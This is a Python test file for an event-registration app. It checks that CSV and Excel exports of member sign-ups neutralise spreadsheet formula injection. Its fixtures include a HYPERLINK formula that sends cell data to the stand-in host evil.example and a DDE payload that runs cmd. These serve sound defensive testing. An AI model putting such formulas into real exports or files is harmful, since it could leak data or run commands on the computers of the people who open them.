"""Registration exports never hand Excel/WPS a formula written by a member (CSV/formula injection)."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from server.events import signup

API = "/api/v1"
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
DDE = "+cmd|' /C calc'!A0"


def _export(client, h, ev, fmt):
    r = client.get(f"{API}/events/{ev.id}/registrations?format={fmt}", headers=h)
    assert r.status_code == 200
    return r


def test_formula_like_text_is_quoted_in_csv_and_plain_text_is_not(client, make, auth):
    ev = make.event(capacity=2, title="安全培训")
    evil = make.member(name=LINK, department=DDE, grid="@SUM(1+1)", employee_no="-E1")
    tabbed = make.member(name="\t=1+1")
    plain = make.member(name="张三", department="生产一部")
    for m in (evil, tabbed, plain):
        signup.register(m.id, ev.id)
    r = _export(client, auth(make.staff()), ev, "csv")
    text = r.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["工号", "姓名", "部门", "网格", "手机", "状态", "候补位次", "报名时间", "签到时间"]
    assert rows[1][:4] == ["'-E1", "'" + LINK, "'" + DDE, "'@SUM(1+1)"]
    assert rows[2][1] == "'\t=1+1"
    # ordinary text, full phones, our own times and the waiting-list place are left alone
    assert rows[3][1:3] == ["张三", "生产一部"] and rows[3][5:7] == ["候补", "1"]
    assert rows[1][4].isdigit() and not rows[1][4].startswith("'")
    assert rows[1][7][:2] == "20"


def test_formula_like_text_is_a_string_cell_in_xlsx(client, make, auth):
    ev = make.event(capacity=1)
    evil = make.member(name=LINK, department=DDE)
    plain = make.member(name="李四")
    signup.register(evil.id, ev.id)
    signup.register(plain.id, ev.id)
    r = _export(client, auth(make.staff()), ev, "xlsx")
    ws = load_workbook(io.BytesIO(r.data)).active
    assert ws.title == "报名名单" and ws["A1"].value == "工号"
    name, dept = ws["B2"], ws["C2"]
    # stored as text, not as a formula: Excel shows the characters and never evaluates them
    assert (name.data_type, name.value) == ("s", LINK)
    assert (dept.data_type, dept.value) == ("s", DDE)
    assert (ws["B3"].data_type, ws["B3"].value) == ("s", "李四")
    # marked as typed with a leading ' so it stays text even after someone edits the cell
    assert name.quotePrefix and dept.quotePrefix and not ws["B3"].quotePrefix
    # the waiting-list place stays a number
    assert (ws["G3"].data_type, ws["G3"].value) == ("n", 1)
